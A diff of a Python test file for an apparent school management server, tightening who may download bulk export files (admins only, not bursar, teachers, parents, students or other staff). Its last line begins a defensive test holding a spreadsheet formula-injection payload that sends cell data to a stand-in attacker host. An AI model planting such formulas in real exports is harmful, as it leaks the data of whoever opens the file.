@@ -161,10 +161,12 @@ class TestTransfers(ServerTestCase):
         self.assertEqual({r["admissionNo"] for r in rows if r["admissionNo"].startswith("EXP-")},
                          {f"EXP-{i}" for i in range(4)})
         fid = job["result"]["fileId"]
-        self.admin.get(f"{FILES}/{fid}/content", expect=200)  # the office
-        for role in ("teacher", "parent", "student"):
+        self.admin.get(f"{FILES}/{fid}/content", expect=200)  # an admin
+        for role in ("bursar", "teacher", "parent", "student"):  # a bulk export: its maker and the admins only
             self.A.client(role).get(f"{FILES}/{fid}/content", expect=404)
         self.B.client("admin").get(f"{FILES}/{fid}/content", expect=404)
+        mine = self.finished(self.admin, self.admin.get(f"{EXPORTS}/guardians"))["result"]["fileId"]
+        staff.get(f"{FILES}/{mine}/content", expect=404)  # not even the rest of the office
 
     def test_values_a_spreadsheet_would_run_are_exported_as_text_and_import_again(self):
         address = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
